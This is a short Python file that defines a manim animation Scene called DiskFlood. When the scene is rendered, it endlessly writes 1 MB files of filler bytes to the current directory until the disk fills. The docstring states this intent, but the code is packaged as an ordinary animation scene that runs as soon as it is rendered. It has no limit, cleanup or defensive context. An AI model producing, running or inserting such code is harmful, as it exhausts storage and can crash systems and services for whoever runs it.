"""Fills the disk with 1 MB files."""

import itertools
from pathlib import Path

from manim import Scene

BLOCK = b"\xff" * 2**20


class DiskFlood(Scene):
    def construct(self):
        for index in itertools.count():
            Path(f"flood-{index}.bin").write_bytes(BLOCK)
